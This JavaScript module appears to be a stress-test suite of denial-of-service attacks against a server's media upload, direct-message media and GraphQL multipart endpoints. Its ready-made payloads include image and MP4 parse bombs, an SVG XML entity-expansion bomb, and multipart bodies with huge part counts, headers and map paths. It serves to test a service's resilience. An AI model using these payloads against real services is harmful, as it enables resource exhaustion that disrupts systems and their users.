// Attacks with media whose size is hard to determine, and with multipart bodies of many parts.
const MiB = 1024 * 1024;

const base64 = (bytes) => bytes.toString('base64');
const upload =
  (bytes, type, times = 3) =>
  (target) =>
    target.many(times, 1, () =>
      target.rest('POST', '/media/upload', { media_data: base64(bytes), media_type: type }, { headers: {} }),
    );

function chunk(type, data, length = data.length) {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(length);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, data, Buffer.alloc(4)]);
}

const pngHead = Buffer.from('89504e470d0a1a0a', 'hex');
const ihdr = (width, height) => {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width);
  data.writeUInt32BE(height, 4);
  data.set([8, 6, 0, 0, 0], 8);
  return chunk('IHDR', data);
};

const gifHead = Buffer.from('474946383961 0100 0100 00 00 00'.replaceAll(' ', ''), 'hex');
const gifFrame = Buffer.from('2c0000000001000100000201440000'.padEnd(26, '0'), 'hex');

function box(type, data) {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + data.length);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, data]);
}
const ftyp = box('ftyp', Buffer.from('isom\0\0\x02\0isomiso2mp41', 'latin1'));
const nested = (depth) => {
  let inner = Buffer.alloc(0);
  for (let i = 0; i < depth; i++) inner = box(i % 2 ? 'moov' : 'trak', inner);
  return inner;
};

function part(name, body, file) {
  const disposition = `form-data; name="${name}"${file ? `; filename="${file}"` : ''}`;
  return `--b\r\nContent-Disposition: ${disposition}\r\n\r\n${body}\r\n`;
}
const multipart = (body) => (target) =>
  target.many(3, 1, () =>
    target.send('POST', '/graphql', { body, headers: { 'content-type': 'multipart/form-data; boundary=b' } }),
  );
const operations = JSON.stringify({
  query: 'mutation($f:Upload!){uploadMedia(input:{file:$f}){mediaId}}',
  variables: { f: null },
});

export const attacks = {
  'media: 24 MB of base64 that is none': (target) =>
    target.many(3, 1, () =>
      target.rest('POST', '/media/upload', { media_data: '*'.repeat(23 * MiB), media_type: 'image/png' }),
    ),
  'media: 24 MB data: URI without a comma': (target) =>
    target.many(3, 1, () => target.rest('POST', '/media/upload', { media_data: `data:${'a;'.repeat(11 * MiB)}` })),
  'media: 23 MB of base64 with line breaks': (target) =>
    target.many(3, 1, () =>
      target.rest('POST', '/media/upload', { media_data: 'AAA\n'.repeat(5 * MiB), media_type: 'image/png' }),
    ),
  'media: 15 MB of zeros': upload(Buffer.alloc(15 * MiB), 'image/gif'),
  'media: PNG of 5 MB in empty chunks': upload(
    Buffer.concat([pngHead, ihdr(1, 1), Buffer.alloc(4.9 * MiB, chunk('aaAa', Buffer.alloc(0)))]),
    'image/png',
  ),
  'media: PNG of 4 billion pixels': upload(Buffer.concat([pngHead, ihdr(65_535, 65_535)]), 'image/png'),
  'media: GIF of a million frames': upload(Buffer.concat([gifHead, Buffer.alloc(14 * MiB, gifFrame)]), 'image/gif'),
  'media: GIF of empty sub-blocks': upload(
    Buffer.concat([gifHead, Buffer.alloc(14 * MiB, Buffer.from([0x21, 0xfe, 1, 0, 0]))]),
    'image/gif',
  ),
  'media: WebP of empty chunks': upload(
    Buffer.concat([
      Buffer.from('RIFF\xff\xff\x4f\0WEBPVP8X\x0a\0\0\0\x10\0\0\0\0\0\0\0\0\0', 'latin1'),
      Buffer.alloc(4.9 * MiB, Buffer.from('ABCD\0\0\0\0', 'latin1')),
    ]),
    'image/webp',
  ),
  'media: JPEG of empty segments': upload(
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(4.9 * MiB, Buffer.from([0, 2, 0xff, 0xe1]))]),
    'image/jpeg',
  ),
  'media: MP4 of a million boxes': upload(
    Buffer.concat([ftyp, Buffer.alloc(14 * MiB, box('free', Buffer.alloc(0)))]),
    'video/mp4',
  ),
  'media: MP4 of 5,000 nested boxes': upload(Buffer.concat([ftyp, nested(5_000)]), 'video/mp4'),
  'media: SVG that expands': upload(
    Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${'a'.repeat(1_000)}">]><svg>${'&a;'.repeat(500_000)}</svg>`,
    ),
    'image/svg+xml',
  ),
  'media: SVG of a million attributes': (target) =>
    target.many(3, 1, () =>
      target.rest('POST', '/dm/send_media', {
        conversation_id: '1:2',
        encryption_code: '1234',
        type: 6,
        image_base64: base64(Buffer.from(`<svg ${'a="b" '.repeat(700_000)}/>`)),
      }),
    ),
  'media: 8 uploads of 15 MB at once': (target) => {
    const body = { media_data: base64(Buffer.alloc(15 * MiB, 1)), media_type: 'image/gif' };
    return target.many(8, 8, () => target.rest('POST', '/media/upload', body));
  },
  'multipart: 100,000 empty parts': multipart(
    `${part('operations', operations)}${part('x', '').repeat(100_000)}--b--\r\n`,
  ),
  'multipart: 100,000 files': multipart(
    `${part('operations', operations)}${part('map', '{"0":["variables.f"]}')}${part('0', '', 'a').repeat(100_000)}--b--\r\n`,
  ),
  'multipart: 20 MB of boundaries that almost match': multipart(
    `${part('operations', operations)}${part('map', '{"0":["variables.f"]}')}${part('0', '\r\n-'.repeat(7 * MiB), 'a')}--b--\r\n`,
  ),
  'multipart: headers of 20 MB': multipart(`--b\r\n${'A: b\r\n'.repeat(3 * MiB)}\r\n\r\n--b--\r\n`),
  'multipart: map of 1 MB': multipart(
    `${part('operations', operations)}${part('map', JSON.stringify(Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [i, ['variables.f']]))))}--b--\r\n`,
  ),
  'multipart: deep paths in map': multipart(
    `${part('operations', operations)}${part('map', JSON.stringify({ 0: [`variables.${'f.'.repeat(400_000)}f`] }))}${part('0', 'x', 'a')}--b--\r\n`,
  ),
};
